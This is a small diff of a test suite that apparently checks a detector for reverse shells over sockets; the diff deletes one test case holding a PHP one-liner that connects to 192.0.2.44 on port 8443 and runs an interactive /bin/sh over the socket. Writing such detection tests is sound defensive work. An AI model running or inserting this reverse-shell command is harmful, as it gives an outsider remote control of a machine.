@@ -88,7 +88,6 @@ describe('shells on sockets', () => {
         ]),
       ],
     ],
-    ['php', [command(['php', '-r', '$sock=fsockopen("192.0.2.44",8443);exec("/bin/sh -i <&3 >&3 2>&3");'])]],
   ];
   test.each(fires)('%s', (_name, peers) => {
     const shell = allEffects(...peers).find((effect) => effect.kind === 'connect' && effect.shell);
